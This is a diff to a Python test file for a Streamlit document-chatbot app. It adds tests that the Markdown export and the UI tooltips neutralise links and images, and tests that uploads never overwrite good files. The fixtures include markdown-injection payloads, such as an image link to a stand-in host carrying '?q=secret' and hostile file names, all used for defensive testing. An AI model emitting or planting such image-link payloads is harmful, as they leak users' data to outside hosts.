@@ -20,11 +20,12 @@ import streamlit as st
 from streamlit.testing.v1 import AppTest
 from streamlit.testing.v1.element_tree import Block, Button
 
+from chatbot import evaluate
 from chatbot.answer import Turn
 from chatbot.app import exporting, views
 from chatbot.app.uploads import safe_filename
 from chatbot.config import get_settings
-from chatbot.models import Answer, Citation
+from chatbot.models import Answer, Citation, Sentence
 from chatbot.pipeline import Pipeline
 
 APP = Path(__file__).resolve().parent.parent / "chatbot" / "app" / "main.py"
@@ -375,7 +376,7 @@ def test_export_markdown_and_json(seeded_env: Pipeline) -> None:
     assert buttons["Download Markdown"].url.endswith(".md")
 
     answers = at.session_state["answers"]
-    markdown = exporting.to_markdown(answers)
+    markdown = plain(exporting.to_markdown(answers))  # as a reader sees it
     assert f"## 1. {QUESTION}" in markdown
     citation = answers[0].citations[0]
     assert f"[{citation.n}] {SEED_SOURCE}, characters {citation.start}–{citation.end}" in markdown
@@ -403,7 +404,6 @@ def test_passage_html_escapes_and_marks_support() -> None:
 
 
 def test_summary_of_a_source_is_cited(seeded_env: Pipeline) -> None:
-    pytest.importorskip("chatbot.summarize")
     at = start("Summaries")
     assert at.multiselect[0].value == [SEED_SOURCE]
     button(at, "Summarize").click().run()
@@ -427,7 +427,6 @@ def _show_eval_report(report: dict[str, object]) -> None:
 
 
 def test_evaluation_report_shows_cases_and_charts(app_env: Path, seed_dir: Path) -> None:
-    evaluate = pytest.importorskip("chatbot.evaluate")
     suite = seed_dir.parent / "suite.yaml"
     suite.write_text(
         "name: app\ndocuments: [seeds]\ncases:\n"
@@ -449,11 +448,9 @@ def test_evaluation_report_shows_cases_and_charts(app_env: Path, seed_dir: Path)
 
 
 def test_evaluation_page_runs_a_bundled_suite(seeded_env: Pipeline) -> None:
-    pytest.importorskip("chatbot.evaluate")
-    from chatbot.app.evaluation_page import SUITES_DIR
+    from chatbot.prompts import DEFAULT_SUITE
 
-    if not any(SUITES_DIR.glob("*.y*ml")):
-        pytest.skip("no suite under prompts/eval/ yet")
+    assert DEFAULT_SUITE.is_file()  # shipped in the package
     at = start("Evaluation")
     button(at, "Run suite").click().run()
     assert not at.exception
@@ -467,3 +464,121 @@ def test_optional_pages_render(seeded_env: Pipeline, page: str) -> None:
     at = start(page)
     assert at.title[0].value == page
     assert not at.exception
+
+
+# --- issue 13 item 13: document and model text never becomes a link or image in Markdown --------
+#: What a GFM viewer turns into a link: "://", "www." or "@" whose punctuation is not escaped.
+UNESCAPED_LINK = re.compile(r"(?<!\\):/|www\.|(?<!\\)@")
+HOSTILE = "See ![](https://evil.host/?q=secret) and [click](https://evil.host/x) <img src=x>."
+
+
+def _rendered(markdown: str) -> str:
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).render(markdown)
+
+
+def _hostile_answer(question: str) -> Answer:
+    citation = Citation(
+        n=1, source="docs/![x](https:evil.host)[n].txt", chunk_id="c", text=HOSTILE, start=0,
+        end=len(HOSTILE), support_start=0, support_end=len(HOSTILE),
+    )
+    answer = Answer(
+        question=question, answer=f"{HOSTILE} [1] Also www.evil.host and https://docs.example.org/a.",
+        abstained=False, citations=[citation], model="**m** ![](https://evil.host/m)",
+    )
+    flagged = Sentence(text="Unsupported ![](https://evil.host/u).", citations=[], supported=False)
+    answer.sentences = [flagged]
+    return answer
+
+
+def test_markdown_export_defuses_links_and_images_from_documents_and_model() -> None:
+    markdown = exporting.to_markdown([_hostile_answer("What does the page say?")])
+    rendered = _rendered(markdown)
+    assert "<img" not in rendered and "<a " not in rendered
+    assert not UNESCAPED_LINK.search(markdown)  # no autolink in GFM viewers either
+    assert "evil.host/?q=secret" in plain(markdown)  # the text itself is all there
+    assert "## 1. What does the page say?" in markdown
+
+
+def test_markdown_export_keeps_a_link_the_user_asked_about() -> None:
+    question = "Summarize https://docs.example.org/a please"
+    markdown = exporting.to_markdown([_hostile_answer(question)])
+    rendered = _rendered(markdown)
+    assert rendered.count('<a href="https://docs.example.org/a">') == 2  # question and answer
+    assert "evil.host" not in "".join(re.findall(r'href="([^"]*)"', rendered))
+    assert "<img" not in rendered
+
+
+def test_delete_tooltip_and_errors_escape_source_names(app_env: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    name = "![x](https:evil.host) **b** [y].txt"
+    (folder / name).write_text("The bakery sells rye bread.", encoding="utf-8")
+    Pipeline.build(get_settings()).index.ingest([folder])
+    at = start("Documents")
+    source = f"docs/{name}"
+    delete = at.button(key=f"delete:{source}")
+    assert delete.proto.help == f"Remove {views.md_escape(source)} from the index"
+    assert "<img" not in _rendered(delete.proto.help) and "<a " not in _rendered(delete.proto.help)
+
+
+def test_md_escape_defuses_autolinks_even_token_by_token() -> None:
+    text = "Visit www.evil.host or https://evil.host/x or mail a@evil.host."
+    escaped = "".join(views.md_escape(ch) for ch in text)
+    assert escaped == views.md_escape(text)
+    assert not UNESCAPED_LINK.search(escaped)
+    assert plain(escaped) == text
+
+
+# --- issue 13 item 5: no upload destroys a document the user had --------------------------------
+def _upload(at: AppTest, files: list[tuple[str, bytes, str]]) -> AppTest:
+    at.file_uploader[0].set_value(files).run()
+    button(at, "Upload and index").click().run()
+    assert not at.exception, at.exception
+    return at
+
+
+def test_colliding_names_in_one_batch_keep_both_files(app_env: Path) -> None:
+    at = _upload(
+        start("Documents"),
+        [
+            ("a b.txt", b"The zebra project ships in May.", "text/plain"),
+            ("a_b.txt", b"The yak project ships in June.", "text/plain"),
+            ("A_B.TXT", b"The emu project ships in July.", "text/plain"),
+        ],
+    )
+    uploads = app_env / "uploads"
+    texts = sorted(p.read_text() for p in uploads.iterdir())
+    assert texts == sorted(
+        ["The zebra project ships in May.", "The yak project ships in June.",
+         "The emu project ships in July."]
+    )
+    assert len(Pipeline.build(get_settings()).index.sources()) == 3
+    report = at.session_state["ingest_report"]
+    assert sorted(f.status for f in report.files) == ["added", "added", "added"]
+
+
+def test_a_broken_new_version_never_replaces_nor_prunes_the_good_one(app_env: Path) -> None:
+    good = b"The quarterly report says revenue rose to 3.5 million."
+    at = _upload(start("Documents"), [("report.txt", good, "text/plain")])
+    at = _upload(at, [("report.txt", b"broken \x80\x81 \xc3\x28 bytes", "text/plain")])
+    target = app_env / "uploads" / "report.txt"
+    assert target.read_bytes() == good  # the good file is still there, unchanged
+    [item] = at.session_state["ingest_report"].files
+    assert item.status == "skipped" and "UTF-8" in item.reason and "kept" in item.reason
+    at.checkbox[0].check().run()  # "Also remove sources whose files are gone"
+    button(at, "Re-index all sources").click().run()
+    assert not at.exception
+    sources = Pipeline.build(get_settings()).index.sources()
+    assert [Path(r["source"]).name for r in sources] == ["report.txt"]
+    assert {f.status for f in at.session_state["ingest_report"].files} == {"unchanged"}
+
+
+def test_a_good_new_version_replaces_the_old_one(app_env: Path) -> None:
+    at = _upload(start("Documents"), [("report.txt", b"Revenue rose in 2023.", "text/plain")])
+    at = _upload(at, [("report.txt", b"Revenue fell in 2024.", "text/plain")])
+    assert (app_env / "uploads" / "report.txt").read_text() == "Revenue fell in 2024."
+    [item] = at.session_state["ingest_report"].files
+    assert item.status == "updated"
+    assert sorted(p.name for p in app_env.parent.rglob("*") if ".upload" in p.name) == []
